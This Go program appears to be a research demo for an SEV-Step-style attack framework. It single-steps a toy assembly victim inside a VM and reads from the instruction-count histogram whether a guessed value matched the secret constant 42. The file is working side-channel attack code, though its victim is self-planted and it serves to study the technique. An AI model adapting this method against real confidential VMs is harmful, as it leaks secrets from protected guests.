//Demonstrates leaking secret dependent control flow via single stepping. A tiny
//assembly victim is placed inside the VM that compares our guess against a
//constant and executes 7 instructions on a correct guess, 5 otherwise. We single
//step the victim's code page and read the answer off the step histogram.
package main

import (
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"os/signal"

	"sevStepLib"
	"sevStepLib/engine"
	"sevStepLib/vmserver"
)

type application struct {
	config   *sevStepLib.Config
	guess    uint64
	maxSteps int
	debugLog *log.Logger
}

func setupAndParseCLI() (*application, error) {
	configPath := flag.String("config", "vm-config.toml", "Path to vm config file")
	guess := flag.Uint64("guess", 0, "Guess for the victim's secret input. 42 is correct")
	maxSteps := flag.Int("maxSteps", 20, "Stop the attack after this many single steps")
	debugLog := flag.Bool("debugLog", false, "Verbose logging for debug purposes")

	flag.Parse()

	app := &application{guess: *guess, maxSteps: *maxSteps}

	cfg, err := sevStepLib.ParseConfig(*configPath)
	if err != nil {
		return nil, fmt.Errorf("failed to parse vm config : %v", err)
	}
	app.config = cfg

	if *debugLog {
		app.debugLog = log.Default()
	} else {
		app.debugLog = log.New(io.Discard, "", 0)
	}

	return app, nil
}

//buildCFVictim assembles the victim code. It compares the guess against the
//"secret" constant 42 and branches on the result:
//
//	mov rax, 42
//	mov rsi, <guess>
//	cmp rax, rsi
//	jne wrong
//	nop
//	nop
//	ret
//	wrong: ret
func buildCFVictim(guess uint64) []byte {
	code := []byte{
		0x48, 0xc7, 0xc0, 0x2a, 0x00, 0x00, 0x00, //mov rax, 42
		0x48, 0xbe, 0, 0, 0, 0, 0, 0, 0, 0, //mov rsi, imm64
		0x48, 0x39, 0xf0, //cmp rax, rsi
		0x75, 0x03, //jne +3
		0x90, 0x90, 0xc3, //nop nop ret
		0xc3, //ret
	}
	binary.LittleEndian.PutUint64(code[9:17], guess)
	return code
}

func run(app *application) error {
	client := vmserver.NewClient(app.config.VMServerAddress)

	target, err := client.NewAssemblyTarget(&vmserver.InitAssemblyTargetReq{
		Code:             buildCFVictim(app.guess),
		RequiredMemBytes: 0,
	})
	if err != nil {
		return fmt.Errorf("failed to create assembly target : %v", err)
	}
	log.Printf("Victim placed in VM: %v", target)

	driver, err := sevStepLib.NewKernelDriver(app.config.KVMDevicePath, app.config.TryGetRIP, app.config.FlushCPU)
	if err != nil {
		return fmt.Errorf("failed to init kernel driver : %v", err)
	}
	defer func() {
		if err := driver.Close(); err != nil {
			log.Printf("Failed to close kernel driver : %v", err)
		}
	}()
	defer func() {
		if err := driver.UntrackAllPages(engine.TrackExec); err != nil {
			log.Printf("Failed to remove exec tracking : %v", err)
		}
	}()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	//only single step while the victim executes its own code page
	stepGate := engine.NewSkipIfNotOnTargetGPAs([]uint64{target.CodePaddr}, engine.TrackExec, app.config.APICTimerValue, app.debugLog)
	histogram := engine.NewBuildStepHistogram()
	//the victim executes at most 7 instructions, more steps mean something is off
	stopAfter := engine.NewStopAfterNSingleSteps(app.maxSteps, nil, app.debugLog)

	//the victim's final ret faults on the caller's page. That fault is swallowed
	//by stepGate, so we detect it before the gate to complete the chain
	sawSteps := false
	doneDetector := engine.NewFuncHandler("CompleteOnVictimReturn", func(ev engine.Event, drv engine.Driver, ctx *engine.Context) (engine.Outcome, error) {
		switch e := ev.(type) {
		case *engine.StepEvent:
			if e.RetiredInstructions > 0 {
				sawSteps = true
			}
		case *engine.PageFaultEvent:
			if sawSteps && e.GPA != target.CodePaddr {
				return engine.Outcome{Action: engine.ActionChainComplete, Event: ev}, nil
			}
		}
		return engine.Outcome{Action: engine.ActionNext, Event: ev}, nil
	})
	awaitNext := engine.NewFuncHandler("AwaitNextEvent", func(ev engine.Event, drv engine.Driver, ctx *engine.Context) (engine.Outcome, error) {
		return engine.Outcome{Action: engine.ActionSkip, Event: ev}, nil
	})

	stepper := engine.NewStepper(driver, engine.NewChain("stepVictim", doneDetector, stepGate, histogram, stopAfter, awaitNext))
	stepper.SetDebugLog(app.debugLog)

	err = stepper.Run(ctx, engine.RunConfig{
		InitialTracking: &engine.InitialTracking{Mode: engine.TrackExec, GPAs: []uint64{target.CodePaddr}},
		Trigger:         client.RunTarget,
		EventTimeout:    app.config.EventTimeout(),
	})
	if err != nil {
		return fmt.Errorf("attack run failed : %v", err)
	}

	var steps uint64
	for size, count := range histogram.Values() {
		steps += size * count
	}
	log.Printf("Step histogram: %v", histogram)
	log.Printf("Victim executed %v instructions", steps)
	if steps >= 7 {
		log.Printf("Guess %v was correct", app.guess)
	} else {
		log.Printf("Guess %v was wrong", app.guess)
	}

	return nil
}

func main() {
	app, err := setupAndParseCLI()
	if err != nil {
		log.Fatalf("Failed to parse CLI args : %v", err)
	}
	if err := run(app); err != nil {
		log.Fatalf("%v", err)
	}
}
